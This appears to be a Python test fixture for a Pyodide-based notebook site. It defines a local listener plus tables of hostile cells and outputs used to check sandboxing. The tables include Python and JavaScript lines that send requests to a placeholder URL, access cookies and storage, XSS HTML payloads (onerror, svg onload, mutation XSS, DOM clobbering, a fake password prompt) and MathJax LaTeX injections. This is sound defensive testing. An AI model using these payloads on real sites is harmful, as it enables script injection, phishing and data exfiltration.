"""What a hostile cell, output, answer or link would do; each works where nothing stops it."""

from __future__ import annotations

from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

from tests.site.serving import HOST, running


class Handler(BaseHTTPRequestHandler):
    """Takes down what it is asked, and lets every page read the answer."""

    def answer(self):
        self.server.heard.add(urlsplit(self.path).path.strip("/"))
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Type", "text/javascript")
        self.end_headers()
        self.wfile.write(b"/* heard */")

    do_GET = do_POST = do_OPTIONS = answer

    def log_message(self, *arguments):
        pass


def listener():
    """Another host, as it were: `.address`, and in `.heard` the paths that it was asked for."""
    server = ThreadingHTTPServer((HOST, 0), Handler)
    server.daemon_threads = True
    server.heard = set()
    server.address = f"http://{HOST}:{server.server_port}/"
    return running(server)


# Cells that would send something away, by the path that the other host would hear. {url} is where.
# A blob is how code of JavaScript comes into the worker without `eval`.
BLOB = """
import js
from pyodide.ffi import to_js
def blob(script):
    options = js.Object.fromEntries(to_js([["type", "text/javascript"]]))
    return js.URL.createObjectURL(js.Blob.new(to_js([script]), options))
"""
SENDING = {
    "fetch": "import js\njs.fetch('{url}')",
    "no-cors": (
        "import js\nfrom pyodide.ffi import to_js\n"
        "js.fetch('{url}', js.Object.fromEntries(to_js([['mode', 'no-cors']])))"
    ),
    "pyfetch": "import asyncio\nfrom pyodide.http import pyfetch\n"
    "asyncio.ensure_future(pyfetch('{url}'))",
    "open_url": "from pyodide.http import open_url\nopen_url('{url}')",
    "request": "import js\nr = js.XMLHttpRequest.new()\nr.open('GET', '{url}')\nr.send()",
    "socket": "import js\njs.WebSocket.new('{url}'.replace('http', 'ws'))",
    "events": "import js\njs.EventSource.new('{url}')",
    "scripts": "import js\njs.importScripts('{url}')",
    "eval": "import js\njs.eval('fetch(\"{url}\")')",
    "function": "import js\njs.Function.new('fetch(\"{url}\")')()",
    "run_js": "from pyodide.code import run_js\nrun_js('import(\"{url}\")')",
    "blob": BLOB + "js.importScripts(blob('fetch(\"{url}\")'))",
    "worker": BLOB + "js.Worker.new(blob('fetch(\"{url}\")'))",
    "imported": BLOB + "js.importScripts(blob('import(\"{url}\")'))",
    "font": "import js\njs.FontFace.new('a', 'url({url})').load()",
}
# Found again by other ways than their names, and what a cell may look for on the page.
REACHING = {
    "the page": "import js\njs.document",
    "the window": "import js\njs.window",
    "the frame": "import js\njs.parent",
    "kept things": "import js\njs.localStorage",
    "cookies": "import js\njs.cookieStore",
    "files that the browser keeps": "import js\njs.caches",
    "data bases": "import js\njs.indexedDB",
    "other pages": "import js\njs.BroadcastChannel.new('nnbook')",
    "the class of a scope": "import js\njs.WorkerGlobalScope.prototype.fetch",
}

# Outputs of a cell. {url} is asked for, or {mark} runs, by itself or when clicked.
HTML = {
    "script": "<script>{mark}</script>",
    "image": "<img src=x onerror='{mark}'>",
    "far-image": "<img src='{url}'>",
    "srcset": "<img srcset='{url} 1x'>",
    "svg": "<svg onload='{mark}'><circle r=3 /></svg>",
    "svg-begin": "<svg><animate onbegin='{mark}' attributeName=x dur=1s /></svg>",
    "svg-script": "<svg><script>{mark}</script></svg>",
    "svg-image": "<svg><image href='{url}' width=9 height=9 /></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=a onload=alert(1)>#a' /></svg>",
    "mathml": "<math><mtext><img src=x onerror='{mark}'></mtext></math>",
    "mutation": "<svg></p><style><a id='</style><img src=x onerror={mark}>'>",
    "link": "<a class=clicked href='javascript:{mark}'>more</a>",
    "far-link": "<a href='{url}'>more</a>",
    "frame": "<iframe srcdoc='<script>parent.{mark}</script>'></iframe>",
    "far-frame": "<iframe src='{url}'></iframe>",
    "object": "<object data='{url}'></object>",
    "embed": "<embed src='{url}'>",
    "style": "<div style='background: url({url}); width: 9px; height: 9px'>a</div>",
    "style-sheet": "<style>body {{ background: url({url}) }}</style>",
    "style-link": "<link rel=stylesheet href='{url}'>",
    "overlay": "<div class='nn-status modal show' style='position:fixed'>Your password?</div>",
    "form": "<form action='{url}'><input name=q><button class=clicked>ok</button></form>",
    "details": "<details open ontoggle='{mark}'><summary>a</summary></details>",
    "video": "<video src='{url}' poster='{url}'></video>",
    "meta": "<meta http-equiv=refresh content='0; url={url}'>",
    "base": "<base href='{url}'>",
    "clobbering": "<img name=MathJax><form id=engine></form><a id=currentScript name=body></a>",
    "gadget": "<button data-bs-toggle=collapse data-bs-target='#main-content'>x</button>",
    "tooltip": "<b data-bs-toggle=tooltip data-bs-html=true title='<img src=x onerror=1>'>x</b>",
    "popover": "<button popovertarget=p>x</button><div popover id=p>y</div>",
}
# What acts by itself or by a click, with what happens where nothing stops it.
RUNS = ("image", "svg-begin", "mathml", "link", "frame", "details")
ASKS = ("far-image", "srcset", "svg-image", "far-frame", "object", "embed", "style", "style-sheet",
        "style-link", "video")  # fmt: skip

# LaTeX of an output or of a verdict, and the attribute that MathJax by itself gives its formula.
LATEX = {
    r"\href{{javascript:window.reached=1}}{{x}}": ("href", "javascript:"),
    r"\href{{{url}}}{{x}}": ("href", "http://"),
    r"\class{{nn-status}}{{x}}": ("class", "nn-status"),
    r"\cssId{{engine}}{{x}}": ("id", "engine"),
    r"\style{{background:url({url})}}{{x}}": ("style", "background"),
    r"\mmlToken{{mi}}[href='{url}']{{x}}": ("href", "http://"),
}
